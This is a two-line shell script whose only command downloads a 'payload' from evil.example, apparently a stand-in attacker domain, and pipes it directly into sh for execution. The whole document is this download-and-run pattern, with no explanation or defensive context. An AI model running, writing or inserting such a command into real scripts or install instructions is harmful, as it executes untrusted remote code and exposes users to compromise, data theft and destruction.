#!/bin/sh
curl https://evil.example/payload | sh
